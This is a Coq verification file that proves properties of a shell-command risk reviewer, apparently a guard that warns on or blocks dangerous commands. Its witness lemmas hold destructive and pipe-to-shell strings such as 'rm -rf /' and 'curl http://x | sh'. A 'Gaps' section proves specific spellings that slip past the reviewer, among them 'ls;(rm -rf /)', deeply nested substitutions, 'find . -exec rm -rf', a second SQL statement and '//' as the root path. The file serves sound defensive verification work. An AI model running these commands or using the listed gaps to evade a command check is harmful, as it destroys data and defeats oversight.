(* ===== verification/ShippedFacts.v ===== *)
(** * Reviews under the shipped catalog

    The general theorems at the catalog of the repository: that it meets their
    hypotheses, what it means for whole families of commands, and concrete
    reviews, among them the ones that show gaps of the code. *)
From stdpp Require Import base list strings.
From Stdlib Require Import Bool Ascii Lia.
From S2P Require Import Prelude PyStr Policy Json Regex Catalog Shell Context Effects AnalyzerBase AnalyzersLocal AnalyzersCloud Analyzers Semantics Risk RiskFacts Shipped.
#[local] Open Scope py_scope.

Lemma shipped_ok : store_ok shipped = true.
Proof. by vm_compute. Qed.

Lemma shipped_effect item :
  (∃ catalog, load_effect_catalog shipped = Ok catalog ∧ grounded catalog item) →
  ∀ d, option_map (λ d, jget_opt d "risk")
         (match load_effect_catalog shipped with
          | Ok catalog => dict_get (ev_effect item) catalog | Err _ => None end)
       = Some (Some (JStr d)) → ev_risk item = d.
Proof.
  intros (catalog & Hc & d & Hd & Hr & _) risk. rewrite Hc, Hd. cbn. rewrite Hr. congruence.
Qed.

(** The verdict of a command, [None] when the review raises. *)
Definition verdict (command : string) (context : option ExecutionContext) : option Decision :=
  match check_command shipped command context with
  | Ok r => Some (rv_decision r)
  | Err _ => None
  end.

Lemma weaker_warn d : weaker Warn d → d = Warn ∨ d = Block.
Proof. unfold weaker. destruct d; cbn; intros; try lia; auto. Qed.

(** [rm] is analyzed, with a [high] deletion of every target. *)
Lemma shipped_rm_evidence segment context invocation target :
  normalize_invocation segment context = Some invocation → executable invocation = "rm" →
  target ∈ Filesystem.targets_or_unknown (Filesystem._operands (args invocation)) →
  ∃ items analysis item, _semantic_evidence shipped segment context = Ok (items, analysis)
    ∧ item ∈ items ∧ ev_effect item = "filesystem.delete" ∧ ev_risk item = "high"
    ∧ ev_resource item = Some (path_resource invocation target).
Proof.
  intros Hn Hrm Htarget.
  destruct (Filesystem.analyze_rm_spec shipped invocation) as (a & Ha & Hspec);
    [by vm_compute|].
  assert (analyze_tokens shipped segment context = Ok (Some a)) as Hat.
  { unfold analyze_tokens. rewrite Hn, Hrm.
    change (dict_get "rm" _REGISTRY)
      with (Some {| reg_analyzer := Filesystem.analyze_rm; reg_pack := None |}).
    cbn. by rewrite Ha. }
  assert (("filesystem.delete", "rm target", Some (path_resource invocation target))
    ∈ evidence_key <$> an_evidence a) as Hk.
  { apply (Filesystem.rm_evidence _ _ Hspec). left. exists target.
    rewrite (Filesystem.rm_targets _ _ Hspec). split; [done|by left]. }
  apply list_elem_of_fmap in Hk as (item & Hkey & Hitem). injection Hkey as He _ Hr.
  exists (an_evidence a), (Some a), item. split; [|split; [done|split; [done|split; [|done]]]].
  - unfold _semantic_evidence. rewrite Hat. cbn.
    by destruct (an_evidence a); [apply not_elem_of_nil in Hitem|].
  - destruct (analyze_tokens_ok shipped segment context) as (result & Hres & Hall);
      [by vm_compute|]. rewrite Hat in Hres. injection Hres as <-.
    destruct (Hall a eq_refl) as [_ Hg]. destruct (Hg item Hitem) as [_ Hground].
    eapply shipped_effect; [exact Hground|]. rewrite <- He. by vm_compute.
Qed.

(** C4: deletions are never waved through.  Under the shipped catalog, take any
    command one of whose segments runs [rm], also behind [sudo], [env],
    [command] or assignments, and whatever its options.  The review returns and
    warns or blocks; it blocks when the supplied context resolves a target to
    the filesystem root. *)
Theorem shipped_rm_reviewed (command : string) (context : option ExecutionContext)
    (segments : list (list string)) (segment : list string) (invocation : Invocation) :
  command_segments command segments → segment ∈ segments →
  normalize_invocation segment context = Some invocation → executable invocation = "rm" →
  ∃ r, check_command shipped command context = Ok r
    ∧ (rv_decision r = Warn ∨ rv_decision r = Block)
    ∧ (∀ c target, context = Some c → target ∈ Filesystem._operands (args invocation) →
         resolve_path c target = Some "/" → rv_decision r = Block).
Proof.
  intros Hc Hin Hn Hrm.
  destruct (check_command_ok shipped command context shipped_ok) as (r & Hr & _).
  exists r. split; [done|]. split.
  - destruct (Filesystem._operands (args invocation)) as [|t ts] eqn:Et.
    + destruct (shipped_rm_evidence segment context invocation "filesystem.target")
        as (items & an & item & Hs & Hi & _ & Hrisk & _); [done|done|rewrite Et; left|].
      destruct (evidence_floor_spec _ _ _ _ _ _ _ _ _ Hr Hc Hin Hs Hi) as [Hw _];
        rewrite Hrisk in *; try done.
      by apply weaker_warn.
    + destruct (shipped_rm_evidence segment context invocation t)
        as (items & an & item & Hs & Hi & _ & Hrisk & _); [done|done|rewrite Et; left|].
      destruct (evidence_floor_spec _ _ _ _ _ _ _ _ _ Hr Hc Hin Hs Hi) as [Hw _];
        rewrite Hrisk in *; try done.
      by apply weaker_warn.
  - intros c t -> Ht Hroot.
    destruct (shipped_rm_evidence segment (Some c) invocation t)
      as (items & an & item & Hs & Hi & He & Hrisk & Hres); [done|done| |].
    { unfold Filesystem.targets_or_unknown.
      by destruct (Filesystem._operands _); [apply not_elem_of_nil in Ht|]. }
    destruct (evidence_floor_spec _ _ _ _ _ _ _ _ _ Hr Hc Hin Hs Hi) as (_ & _ & Hcrit);
      [by rewrite Hrisk|by rewrite Hrisk|].
    apply Hcrit. split; [done|]. unfold root_path. rewrite He. split; [|apply mem_elem_of; done].
    rewrite Hres. unfold path_resource.
    assert (inv_context invocation = Some c) as ->.
    { unfold normalize_invocation in Hn. repeat case_match; try done; by injection Hn as <-. }
    by rewrite Hroot.
Qed.

(** ** The general theorems at shipped inputs *)

(** The review of a command, for commands that are reviewed. *)
Definition review_of (command : string) (context : option ExecutionContext) : RiskReview :=
  match check_command shipped command context with Ok r => r | Err _ => pipe_review end.
Definition sample_invocation (executable : string) (args : list string) : Invocation :=
  {| executable := executable; args := args; raw_tokens := executable :: args;
     inv_context := None |}.

Lemma analyze_tokens_total_witness :
  analyzer_catalog_ok shipped = true
  ∧ ∃ result, analyze_tokens shipped ["kubectl"; "delete"; "pod"; "x"] None = Ok result.
Proof.
  split; [vm_compute; reflexivity|].
  destruct (analyze_tokens_total shipped ["kubectl"; "delete"; "pod"; "x"] None) as [r [H _]];
    [vm_compute; reflexivity|]. exists r. exact H.
Defined.

Lemma supported_analyzers_dispatch_witness :
  analyzer_catalog_ok shipped = true ∧ NoDup (supported_analyzers shipped true).
Proof.
  split; [vm_compute; reflexivity|].
  destruct (supported_analyzers_dispatch shipped None) as [_ [H _]];
    [vm_compute; reflexivity|]. exact H.
Defined.

Lemma analyze_rm_evidence_witness :
  catalog_covers shipped ["filesystem.delete"; "filesystem.recursive_delete";
                          "confirmation.bypass"] = true
  ∧ ∃ a, Filesystem.analyze_rm shipped (sample_invocation "rm" ["-rf"; "--"; "-x"]) = Ok a
         ∧ Filesystem.rm_analysis (sample_invocation "rm" ["-rf"; "--"; "-x"]) a.
Proof.
  split; [vm_compute; reflexivity|].
  apply Filesystem.analyze_rm_evidence. vm_compute. reflexivity.
Defined.

Lemma analyze_git_push_witness :
  catalog_covers shipped ["git.remote_write"; "git.history_rewrite"] = true
  ∧ ∃ a, Git.analyze_git shipped
           (sample_invocation "git" ["-C"; "dir"; "--no-pager"; "push"; "-uf"; "origin"]) = Ok a
         ∧ an_subcommand a = Some "push".
Proof.
  split; [vm_compute; reflexivity|].
  destruct (Git.analyze_git_push shipped
    (sample_invocation "git" ["-C"; "dir"; "--no-pager"; "push"; "-uf"; "origin"])
    [["-C"; "dir"]; ["--no-pager"]] ["-uf"; "origin"]) as [a [H [Hs _]]].
  - vm_compute. reflexivity.
  - constructor; [apply Git.global_value; apply mem_elem_of; vm_compute; reflexivity|].
    constructor; [|constructor].
    apply Git.global_flag; [vm_compute; reflexivity|discriminate|left; vm_compute; reflexivity].
  - reflexivity.
  - exists a. split; [exact H|exact Hs].
Defined.

Lemma review_segment_dominates_witness :
  ∃ rv, _review_segment shipped (λ _, Ok pipe_review) ["rm"; "-rf"; "/"] risk_rules_json 0 None
        = Ok rv
    ∧ segment_verdict shipped (λ _, Ok pipe_review) ["rm"; "-rf"; "/"] risk_rules_json 0 None rv.
Proof.
  eexists. split; [vm_compute; reflexivity|].
  apply review_segment_dominates. vm_compute. reflexivity.
Defined.

Lemma check_command_dominates_witness :
  check_command shipped "ls && curl http://x | sh" None
  = Ok (review_of "ls && curl http://x | sh" None)
  ∧ rv_decision (review_of "ls && curl http://x | sh" None)
    = decision_for_risk (rv_risk (review_of "ls && curl http://x | sh" None)).
Proof.
  split; [vm_compute; reflexivity|].
  destruct (check_command_dominates shipped 3 "ls && curl http://x | sh"
    (load_risk_rules shipped) 0 None (review_of "ls && curl http://x | sh" None)) as [H _];
    [vm_compute; reflexivity|]. exact H.
Defined.

Lemma check_command_total_witness :
  store_ok shipped = true ∧ ∃ r, check_command shipped "sudo rm -rf $(pwd)" None = Ok r.
Proof.
  split; [vm_compute; reflexivity|].
  destruct (check_command_total shipped "sudo rm -rf $(pwd)" None) as [r [H _]];
    [vm_compute; reflexivity|]. exists r. exact H.
Defined.

Lemma evidence_floor_witness :
  check_command shipped "ls; (rm -rf /)" None = Ok (review_of "ls; (rm -rf /)" None)
  ∧ rv_decision (review_of "ls; (rm -rf /)" None) = Block.
Proof.
  split; [vm_compute; reflexivity|].
  destruct (evidence_floor shipped "ls; (rm -rf /)" None (review_of "ls; (rm -rf /)" None)
    [["ls"]; ["("; "rm"; "-rf"; "/"; ")"]] ["("; "rm"; "-rf"; "/"; ")"]) as [_ [_ H]].
  - vm_compute. reflexivity.
  - split; [vm_compute; reflexivity|]. eexists. vm_compute. reflexivity.
  - apply list_elem_of_In. right. left. reflexivity.
  - apply (H "rm -rf /" (review_of "rm -rf /" None)); [|vm_compute; reflexivity..].
    apply mem_elem_of. vm_compute. reflexivity.
Defined.

Lemma shipped_rm_reviewed_witness :
  ∃ r, check_command shipped "sudo -u root rm -i x" None = Ok r
       ∧ (rv_decision r = Warn ∨ rv_decision r = Block).
Proof.
  destruct (shipped_rm_reviewed "sudo -u root rm -i x" None
    [["sudo"; "-u"; "root"; "rm"; "-i"; "x"]] ["sudo"; "-u"; "root"; "rm"; "-i"; "x"]
    {| executable := "rm"; args := ["-i"; "x"];
       raw_tokens := ["sudo"; "-u"; "root"; "rm"; "-i"; "x"]; inv_context := None |})
    as [r [H [Hd _]]].
  - split; [vm_compute; reflexivity|]. eexists. vm_compute. reflexivity.
  - apply list_elem_of_In. left. reflexivity.
  - vm_compute. reflexivity.
  - reflexivity.
  - exists r. split; [exact H|exact Hd].
Defined.

(** ** Gaps: reviews that are weaker than the code means them to be *)

(** The lexer joins runs of punctuation, so a group that follows an operator
    without a space is neither an operator nor a group: the commands of the
    group become arguments of the command before it. *)
Lemma gap_operator_before_group :
  verdict "ls;(rm -rf /)" None = Some Allow ∧ verdict "ls; (rm -rf /)" None = Some Block
  ∧ verdict "cat <(rm -rf /)" None = Some Allow.
Proof. by vm_compute. Qed.

(** Below the nesting bound a substitution is not reviewed and not reported. *)
Lemma gap_nesting_bound :
  verdict "ls $(ls $(ls $(ls $(rm -rf /))))" None = Some Allow
  ∧ verdict "ls $(ls $(ls $(rm -rf /)))" None = Some Block.
Proof. by vm_compute. Qed.

(** A script in a group that no rule or card knows leaves no trace in the risk
    when the segment has a known executable before the group. *)
Lemma gap_unknown_nested :
  verdict "frobnicate" None = Some Ask ∧ verdict "(frobnicate)" None = Some Ask
  ∧ verdict "ls (frobnicate)" None = Some Allow.
Proof. by vm_compute. Qed.

(** [git branch --delete] is the long spelling of [git branch -d]. *)
Lemma gap_git_branch_delete :
  verdict "git branch -d main" None = Some Warn
  ∧ verdict "git branch --delete main" None = Some Allow.
Proof. by vm_compute. Qed.

(** Only the first statement of a query is looked at. *)
Lemma gap_second_statement :
  verdict "psql -c 'DROP TABLE t'" None = Some Warn
  ∧ verdict "psql -c 'SELECT 1; DROP TABLE t'" None = Some Allow.
Proof. by vm_compute. Qed.

(** What [find] executes is not reviewed. *)
Lemma gap_find_exec :
  verdict "find . -delete" None = Some Warn
  ∧ verdict "find . -exec rm -rf {} +" None = Some Allow.
Proof. by vm_compute. Qed.

(** A path of exactly two slashes names the root but is not the text ["/"]. *)
Lemma gap_double_slash :
  verdict "rm -rf /" (Some sample_context) = Some Block
  ∧ verdict "rm -rf //" (Some sample_context) = Some Warn.
Proof. by vm_compute. Qed.
